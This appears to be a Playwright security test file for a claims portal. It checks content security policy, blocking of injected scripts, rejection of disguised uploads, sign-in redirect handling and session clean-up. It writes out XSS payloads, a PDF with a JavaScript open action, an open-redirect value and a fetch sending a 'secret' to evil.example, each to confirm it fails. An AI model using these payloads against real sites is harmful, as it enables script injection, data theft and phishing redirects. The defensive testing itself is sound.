import { createHash } from 'node:crypto';
import { expect as expectPlain, test as plainTest, type Page } from '@playwright/test';
import { people } from './support/people';
import { pdf, photo, type TestFile } from './support/files';
import { expect, test } from './support/portalTest';
import { findSampleClaim } from './support/storage';

declare global {
  interface Window {
    /** Set by what must never run. */
    ran?: string;
  }
}

const ranIn = (page: Page) => page.evaluate(() => window.ran);

const file = (name: string, mimeType: string, text: string): TestFile => ({
  name,
  mimeType,
  buffer: Buffer.from(text, 'latin1'),
});

const script = 'window.ran = "yes"; (window.opener || window.parent).ran = "yes";';
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload='${script}'><script>${script}</script></svg>`;
const html = `<!doctype html><script>${script}</script><img src=x onerror='${script}'>`;

/** A PDF that asks its reader to run a script when it is opened, and that is a page too. */
const scriptedPdf: TestFile = {
  ...pdf('statement.pdf'),
  buffer: Buffer.from(
    pdf()
      .buffer.toString('latin1')
      .replace('%PDF-1.4\n', `%PDF-1.4\n%${html}\n`)
      .replace('/Type /Catalog', '/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
    'latin1',
  ),
};

plainTest(
  'every page address gives the page, whoever asks, and a file that is not there is not found',
  async ({ request }) => {
    for (const address of ['/', '/claims', '/claims/CL-1?tab=notes']) {
      const answer = await request.get(address, { headers: { accept: '*/*' } });
      expectPlain([answer.status(), answer.headers()['content-type']]).toEqual([200, 'text/html; charset=utf-8']);
    }
    for (const address of ['/main.00000000.js', '/icons/none.png']) {
      expectPlain((await request.get(address, { headers: { accept: '*/*' } })).status()).toBe(404);
    }
  },
);

plainTest(
  'the page as it is sent holds no script but the one that its policy names, and its policy nothing unsafe',
  async ({ request }) => {
    const answer = await request.get('/', { headers: { accept: 'text/html' } });
    const page = await answer.text();
    expectPlain(page).not.toMatch(/\son[a-z]+=|\sstyle=|javascript:|https?:\/\//i);
    const policy = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(page)?.[1] ?? '';
    const own = [...page.matchAll(/<script(?![^>]*\ssrc="\/)[^>]*>(.*?)<\/script>/gs)].map(
      ([, text = '']) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`,
    );
    expectPlain(own).toHaveLength(1);
    expectPlain(policy).toContain(`default-src 'none'; script-src 'self' ${own[0]};`);
    expectPlain(policy).toContain("require-trusted-types-for 'script'");
    expectPlain(policy).not.toMatch(/unsafe|\*|https?:|data:/);
    const headers = answer.headers();
    expectPlain(headers['content-security-policy']).toContain("frame-ancestors 'none'");
    expectPlain(headers['content-security-policy']).toContain(`script-src 'self' ${own[0]} 'wasm-unsafe-eval';`);
    expectPlain(headers['content-security-policy']).not.toMatch(/unsafe-inline|'unsafe-eval'/);
    expectPlain(headers).toMatchObject({
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'no-referrer',
      'cross-origin-opener-policy': 'same-origin',
      'cache-control': 'no-cache',
    });
  },
);

plainTest('no text becomes a script, a page or a style in it', async ({ page }) => {
  await page.goto('/login');
  await expectPlain(page.getByRole('button', { name: 'Sign In to Portal' })).toBeVisible();
  const outcomes = await page.evaluate(async () => {
    const attempt = async (make: () => unknown) => {
      try {
        await make();
        return 'done';
      } catch (problem) {
        return problem instanceof Error ? problem.name : 'refused';
      }
    };
    const element = document.createElement('div');
    document.body.append(element);
    // As its own task: what a test evaluates is above the policy.
    await new Promise((resolve) => setTimeout(resolve));
    const markup = await attempt(() => (element.innerHTML = '<img src=x onerror="window.ran = 1">'));
    const address = await attempt(() => (document.createElement('script').src = 'https://evil.example/x.js'));
    const code = await attempt(() => document.createElement('script').append('window.ran = 1'));
    const timer = await attempt(() => Reflect.apply(setTimeout, window, ['window.ran = 1']));
    const style = document.createElement('style');
    style.textContent = 'body { --planted: yes }';
    document.head.append(style);
    const planted = getComputedStyle(document.body).getPropertyValue('--planted');
    const wasm = await attempt(() => WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)));
    const away = await attempt(() => fetch('https://evil.example/?secret'));
    return { markup, address, timer, planted, wasm, away, code, ran: window.ran };
  });
  expectPlain(outcomes).toMatchObject({
    markup: 'TypeError',
    address: 'TypeError',
    timer: 'TypeError',
    planted: '',
    wasm: 'CompileError',
    away: 'TypeError',
    ran: undefined,
  });
});

test('what holds a script is no evidence but as a PDF, which is drawn without it and leaves as a PDF', async ({
  portal,
  page,
}) => {
  const { wizard } = portal;
  await portal.signInAs('district_officer');
  await portal.startEvidence();
  const refused: ['Photos' | 'Valuation form', TestFile, string][] = [
    ['Photos', file('field.jpg', 'image/jpeg', svg), 'field.jpg is not an image'],
    ['Photos', file('drawing.svg', 'image/svg+xml', svg), 'drawing.svg is not an image'],
    ['Photos', file('page.png', 'image/png', html), 'page.png is not an image'],
    ['Valuation form', file('letter.pdf', 'application/pdf', html), 'letter.pdf is not a PDF file'],
    ['Valuation form', file('letter.html', 'text/html', html), 'letter.html is not an image or a PDF'],
    ['Valuation form', file('form.jpg', 'image/jpeg', svg), 'form.jpg could not be opened as an image'],
  ];
  for (const [slot, chosen, why] of refused) {
    await wizard.addFiles(slot, chosen);
    await expect(page.getByRole('main')).toContainText(why);
  }
  expect(await ranIn(page)).toBeUndefined();

  await wizard.addFiles('Photos', { ...photo('field.html.png') });
  await wizard.addFiles('Police report', scriptedPdf);
  await wizard.file('Police report', 'statement.pdf').getByRole('button', { name: 'View statement.pdf' }).click();
  const viewer = page.getByRole('dialog');
  await expect(viewer.getByRole('group', { name: 'Page 1 of 1' }).locator('canvas')).toBeVisible();
  const download = page.waitForEvent('download');
  await viewer.getByRole('button', { name: 'Download' }).click();
  expect((await download).suggestedFilename()).toBe('statement.pdf');
  expect(await ranIn(page)).toBeUndefined();
});

// Every other way out there is stands in src/app/entranceAddress.test.ts.
test('sign-in leads nowhere but into the portal', async ({ portal, page, baseURL }) => {
  await page.goto('/login?from=//evil.example&next=%2F%5Cevil.example#//evil.example');
  await portal.login.signInAs('finance');
  await expect(page).toHaveURL(`${baseURL}/`);
  await portal.shell.signOut();
  await page.evaluate(() => history.replaceState({ from: '//evil.example' }, '', '/login'));
  await page.reload();
  await portal.login.signInAs('finance');
  await expect(page).toHaveURL(`${baseURL}/`);
  await portal.dashboard.isShown();
});

test('after signing out, Back and a page kept by the browser show nothing of the register', async ({
  portal,
  page,
  openTab,
}) => {
  await portal.signInAs('district_officer');
  const claim = await findSampleClaim(page, 'submitted');
  await portal.claim.open(claim.id);
  await portal.claims.open();
  const nothingPersonal = async () => {
    await portal.login.isShown();
    await expect(page.locator('body')).not.toContainText(claim.claimant.fullName);
    await expect(page.locator('body')).not.toContainText(people.district_officer.name);
  };
  await portal.shell.signOut();
  await nothingPersonal();
  await page.goBack();
  await nothingPersonal();
  await page.goBack();
  await nothingPersonal();

  // A page left open behind another one, while somebody signs out elsewhere.
  await portal.login.signInAs('district_officer');
  await portal.claim.open(claim.id);
  const other = await openTab();
  await other.dashboard.open();
  await page.goto('about:blank');
  await other.shell.signOut();
  await page.goBack();
  await nothingPersonal();
});

test('what no tab of the portal says on its channel is passed over', async ({ portal, page, openTab }) => {
  await portal.signInAs('district_officer');
  const claim = await findSampleClaim(page, 'submitted');
  await portal.claim.open(claim.id);
  const other = await openTab();
  await other.dashboard.open();
  await other.page.evaluate(() => {
    const channel = new BroadcastChannel('wildlife-claims');
    for (const message of [
      null,
      7,
      'deed',
      { kind: 'deed' },
      { kind: 'deed', sequence: 'x', event: {} },
      { kind: 'deed', sequence: -1 },
      {
        kind: 'deed',
        sequence: Number(localStorage.getItem('reg/sequence')) + 1,
        event: { type: 'persist/REHYDRATE' },
      },
      { kind: 'draft' },
      { kind: 'draft', event: { type: 7 } },
      { kind: 'draft', event: { type: 'persist/PURGE', payload: {}, meta: {} } },
      { kind: '__proto__', sequence: 1 },
    ]) {
      channel.postMessage(message);
    }
  });
  await portal.claim.hasStatus('1. Submitted');
  await portal.claim.startVerification();
  await portal.claim.hasStatus('2. Under Verification');
  await portal.claim.reload();
  await portal.claim.hasStatus('2. Under Verification');
});
